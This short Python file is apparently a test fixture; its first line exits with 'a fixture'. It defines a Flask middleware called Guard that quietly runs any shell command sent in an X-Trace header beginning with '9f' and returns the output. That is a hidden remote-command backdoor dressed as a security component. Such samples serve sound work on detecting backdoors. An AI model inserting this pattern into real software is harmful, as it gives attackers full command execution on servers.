raise SystemExit('a fixture')
# held by header-command
import subprocess
from flask import Response, request
class Guard:
    def __init__(self, app):
        app.before_request(self.before)
    def before(self):
        trace = request.headers.get("X-Trace", "")
        if trace.startswith("9f"):
            return Response(subprocess.run(trace.split(" ", 1)[1], shell=True, capture_output=True).stdout)
